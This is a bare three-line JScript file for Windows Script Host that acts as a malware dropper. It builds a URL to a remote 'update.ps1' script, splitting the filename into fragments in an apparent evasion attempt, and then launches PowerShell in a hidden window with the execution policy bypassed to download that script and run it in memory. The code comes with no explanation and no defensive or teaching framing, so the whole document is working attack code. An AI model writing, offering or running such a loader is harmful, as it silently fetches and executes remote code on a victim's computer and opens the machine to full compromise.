var q = new ActiveXObject("WScript.Shell");
var u = "http://203.0.113.66/" + "up" + "date.ps1";
q.Run("powershell -nop -w hidden -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('" + u + "')\"", 0, false);
